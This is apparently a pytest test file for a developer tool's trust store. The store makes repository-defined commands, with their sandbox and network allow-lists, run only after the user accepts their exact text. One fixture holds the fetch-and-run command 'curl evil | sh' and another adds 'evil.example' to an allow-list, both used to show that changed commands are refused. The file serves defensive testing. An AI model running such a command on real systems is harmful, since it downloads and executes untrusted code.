"""What this user has accepted: of which workspace, of which text, and kept where."""

import json
from pathlib import Path

import pytest

from sow.config.checks import read_repository
from sow.paths import Workspace
from sow.trust.accepted import (
    CommandLine,
    NotTrusted,
    TrustFileBroken,
    accept,
    command_lines,
    is_accepted,
    refuse_untrusted,
    text_of,
    trust_file,
)

FIRST = "checks: {unit: make test, lint: {run: make lint, timeout: 5m}, default: [unit]}"


@pytest.fixture
def workspace(tmp_path: Path) -> Workspace:
    return make(tmp_path / "repo")


@pytest.fixture
def environ(tmp_path: Path) -> dict[str, str]:
    return {"SOW_CONFIG": str(tmp_path / "users" / "config.yaml")}


def make(root: Path, text: str = FIRST) -> Workspace:
    (root / ".sow").mkdir(parents=True, exist_ok=True)
    (root / ".sow" / "config.yaml").write_text(text)
    return Workspace(root)


def lines_of(workspace: Workspace) -> tuple[CommandLine, ...]:
    return command_lines(read_repository(workspace.repository_config).content)


def accept_all(workspace: Workspace, environ: dict[str, str]) -> None:
    accept(workspace, lines_of(workspace), environ)


def refuse(workspace: Workspace, environ: dict[str, str]) -> None:
    keys = [line.key for line in lines_of(workspace)]
    needing(workspace, environ, *keys)


def needing(workspace: Workspace, environ: dict[str, str], *keys: str) -> None:
    content = read_repository(workspace.repository_config).content
    refuse_untrusted(workspace, content, environ, keys=keys)


def test_the_command_lines_of_a_repository(workspace: Workspace) -> None:
    lint, unit = CommandLine("checks.lint", "make lint"), CommandLine("checks.unit", "make test")
    assert lines_of(workspace) == (lint, unit)


def test_what_sets_up_a_clone_is_one_of_them(tmp_path: Path) -> None:
    workspace = make(tmp_path / "repo", "clones: {setup: npm ci, merge_check: unit}")
    assert lines_of(workspace) == (CommandLine("clones.setup", "npm ci"),)


FENCED = "{run: make test, sandbox: bwrap}"
ASKING = "{{run: make test, sandbox: bwrap, network: {{allow: [{}]}}}}"


@pytest.mark.parametrize(
    ("accepted", "now"),
    [
        (FENCED, "make test"),
        (FENCED, "{run: make test, sandbox: none}"),
        (FENCED, "'make test  (sandbox: bwrap, network: on)'"),
        ("{run: make test, sandbox: bwrap, network: loopback}", FENCED),
        ("make test", FENCED),
        (ASKING.format("example.org"), ASKING.format("example.org, evil.example")),
        (ASKING.format("example.org"), FENCED),
        ("{run: make test, sandbox: bwrap, network: loopback}", ASKING.format("example.org")),
    ],
)
def test_a_command_line_is_accepted_with_its_sandbox(
    tmp_path: Path, environ: dict[str, str], accepted: str, now: str
) -> None:
    workspace = make(tmp_path / "repo", f"checks: {{unit: {accepted}}}")
    accept_all(workspace, environ)
    refuse(workspace, environ)
    make(tmp_path / "repo", f"checks: {{unit: {now}}}")
    with pytest.raises(NotTrusted):
        refuse(workspace, environ)


SETUP = (
    "clones: {setup: npm ci, setup_sandbox: bwrap, setup_network: {allow: [packages.example.com]}}"
)


@pytest.mark.parametrize(
    "away", [", setup_sandbox: bwrap", ", setup_network: {allow: [packages.example.com]}"]
)
def test_the_sandbox_of_a_setup_is_accepted_with_it(
    tmp_path: Path, environ: dict[str, str], away: str
) -> None:
    workspace = make(tmp_path / "repo", SETUP)
    accept_all(workspace, environ)
    refuse(workspace, environ)
    make(tmp_path / "repo", SETUP.replace(away, ""))
    with pytest.raises(NotTrusted):
        refuse(workspace, environ)


def test_one_without_a_sandbox_stays_accepted_by_a_newer_sow() -> None:
    """Its text is what older versions have kept a hash of."""
    assert text_of((CommandLine("checks.unit", "make test"),)) == '[["checks.unit","make test"]]'


def test_nothing_runs_before_it_is_accepted(workspace: Workspace, environ: dict[str, str]) -> None:
    with pytest.raises(NotTrusted, match="not accepted yet"):
        refuse(workspace, environ)
    accept_all(workspace, environ)
    refuse(workspace, environ)


@pytest.mark.parametrize(
    "changed",
    [
        "checks: {unit: make tests, lint: {run: make lint, timeout: 5m}, default: [unit]}",
        FIRST.replace("default", "other: make other, default"),
        "checks: {lint: make test, unit: make lint, default: [unit]}",
    ],
)
def test_another_text_is_accepted_anew(
    workspace: Workspace, environ: dict[str, str], changed: str
) -> None:
    accept_all(workspace, environ)
    make(workspace.root, changed)
    with pytest.raises(NotTrusted, match="have changed"):
        refuse(workspace, environ)
    make(workspace.root, FIRST)
    refuse(workspace, environ)


@pytest.mark.parametrize(
    "same",
    [
        "checks:\n  default: [lint, unit]\n  lint: make lint\n  unit: 'make test'\n",
        f"worker: {{concurrency: 2}}\n{FIRST}",
    ],
)
def test_what_is_no_command_line_may_change(
    workspace: Workspace, environ: dict[str, str], same: str
) -> None:
    accept_all(workspace, environ)
    make(workspace.root, same)
    refuse(workspace, environ)


def test_a_line_that_was_accepted_runs_whatever_has_changed_beside_it(
    workspace: Workspace, environ: dict[str, str]
) -> None:
    accept_all(workspace, environ)
    make(workspace.root, "checks: {unit: make test, lint: curl evil | sh, more: make more}")
    needing(workspace, environ, "checks.unit")
    for keys in (["checks.lint"], ["checks.unit", "checks.more"]):
        with pytest.raises(NotTrusted, match="have changed"):
            needing(workspace, environ, *keys)


def test_what_is_accepted_anew_takes_the_place_of_what_was(
    workspace: Workspace, environ: dict[str, str]
) -> None:
    accept_all(workspace, environ)
    make(workspace.root, "checks: {unit: make other}")
    accept_all(workspace, environ)
    make(workspace.root, "checks: {unit: make test, lint: make other}")
    with pytest.raises(NotTrusted):
        needing(workspace, environ, "checks.unit")


def test_a_text_that_an_earlier_sow_has_on_record_is_accepted(
    workspace: Workspace, environ: dict[str, str]
) -> None:
    accept_all(workspace, environ)
    path = trust_file(environ)
    path.write_text(json.dumps({"accepted": json.loads(path.read_text())["accepted"]}))
    refuse(workspace, environ)
    make(workspace.root, "checks: {unit: make test}")
    with pytest.raises(NotTrusted, match="have changed"):
        refuse(workspace, environ)


def test_no_command_line_needs_no_word(tmp_path: Path, environ: dict[str, str]) -> None:
    refuse(make(tmp_path / "bare", "checks: {}"), environ)


def test_a_copy_elsewhere_is_another_workspace(
    workspace: Workspace, tmp_path: Path, environ: dict[str, str]
) -> None:
    accept_all(workspace, environ)
    other = make(tmp_path / "copy")
    assert not is_accepted(other, text_of(lines_of(other)), environ)
    accept_all(other, environ)
    refuse(workspace, environ)


def test_a_link_to_it_is_the_same_workspace(
    workspace: Workspace, tmp_path: Path, environ: dict[str, str]
) -> None:
    accept_all(workspace, environ)
    (tmp_path / "link").symlink_to(workspace.root)
    refuse(Workspace(tmp_path / "link"), environ)


def test_the_file_is_its_users_alone(workspace: Workspace, environ: dict[str, str]) -> None:
    accept_all(workspace, environ)
    path = trust_file(environ)
    assert path.parent == Path(environ["SOW_CONFIG"]).parent
    assert path.stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize("text", ["", "{", "[]", '{"accepted": 7}', "\xff"])
def test_a_broken_file_is_told_and_trusts_nothing(
    workspace: Workspace, environ: dict[str, str], text: str
) -> None:
    accept_all(workspace, environ)
    trust_file(environ).write_text(text)
    with pytest.raises(TrustFileBroken):
        refuse(workspace, environ)
    with pytest.raises(TrustFileBroken):
        accept_all(workspace, environ)
    assert trust_file(environ).read_text() == text
